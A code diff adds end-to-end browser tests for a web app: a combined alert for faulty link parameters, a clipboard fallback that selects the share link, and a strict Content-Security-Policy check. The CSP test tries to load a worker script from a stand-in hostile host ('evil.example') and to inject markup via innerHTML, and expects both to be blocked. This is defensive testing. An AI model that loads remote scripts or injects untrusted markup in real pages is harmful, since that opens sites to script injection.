@@ -213,3 +213,69 @@ test('the citation of a record is copied', async ({ openApp }) => {
   expect(copied.split('\n')).toHaveLength(4);
   expect(copied).toContain('Global Times. (2021, November 12). ');
 });
+
+test('many things wrong with a link are told as one, which can be read and closed', async ({ app }) => {
+  const wrong = ['date', 'sel', 'view', 'theme', 'lang', 'window', 'span', 'mode', 'place', 'data', 'nature'];
+  await app.open(wrong.map((name) => `${name}=${'x'.repeat(300)}`).join('&'));
+  await expect(app.alerts).toHaveCount(1);
+  await expect(app.alerts).toContainText(`${wrong.length} parts of the link could not be used`);
+  await app.alerts.getByText('Which ones').click();
+  await expect(app.alerts.getByRole('listitem')).toHaveCount(wrong.length);
+  expect(await app.accessibilityProblems()).toEqual([]);
+  const box = await app.boxOf('.notices');
+  expect(box.bottom - box.top).toBeLessThan(560);
+  await app.button('Dismiss').click();
+  await expect(app.alerts).toHaveCount(0);
+});
+
+test('where the browser has no clipboard the text is selected for the reader', async ({ app }) => {
+  await app.page.addInitScript(() => {
+    Object.defineProperty(navigator, 'clipboard', { value: undefined });
+    document.execCommand = () => false;
+  });
+  await app.open('date=2021-12-23');
+  await app.button('Share').click();
+  await app.dialog('Share').getByRole('button', { name: 'Copy link' }).click();
+  const field = app.page.getByRole('textbox', { name: 'Text to copy' });
+  await expect(field).toBeFocused();
+  await expect(field).toHaveValue(/date=2021-12-23/);
+  const selected = await field.evaluate((element) => {
+    const { selectionStart, selectionEnd, value } = element as HTMLTextAreaElement;
+    return [selectionStart, selectionEnd, value.length];
+  });
+  expect(selected).toEqual([0, selected[2], selected[2]]);
+  expect(await app.accessibilityProblems()).toEqual([]);
+  await app.press('Control+c');
+  await expect(app.status).toHaveText('Link copied');
+  await expect(field).toHaveCount(0);
+});
+
+test('the page’s policy lets nothing in', async ({ app }) => {
+  await app.openPage();
+  const policy = await app.page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
+  const directives = new Map((policy ?? '').split('; ').map((part) => [part.split(' ')[0], part] as const));
+  expect(policy).not.toMatch(/unsafe|\*|http/);
+  for (const name of ['default-src', 'script-src', 'base-uri', 'form-action', 'require-trusted-types-for'])
+    expect([...directives.keys()]).toContain(name);
+  expect(directives.get('default-src')).toBe("default-src 'none'");
+  expect(directives.get('script-src')).toBe("script-src 'self'");
+  // A program from elsewhere, or markup from a text, is refused by the browser itself.
+  const refused = await app.run(() => {
+    const attempts = [
+      () => new Worker('https://evil.example/worker.js'),
+      () => {
+        document.createElement('div').innerHTML = '<b>x</b>';
+      },
+    ];
+    return attempts.map((attempt) => {
+      try {
+        attempt();
+        return false;
+      } catch (error) {
+        return error instanceof TypeError;
+      }
+    });
+  }, undefined);
+  expect(refused).toEqual([true, true]);
+  app.forgive(/TrustedHTML|TrustedScriptURL|Trusted Type|trusted/i);
+});
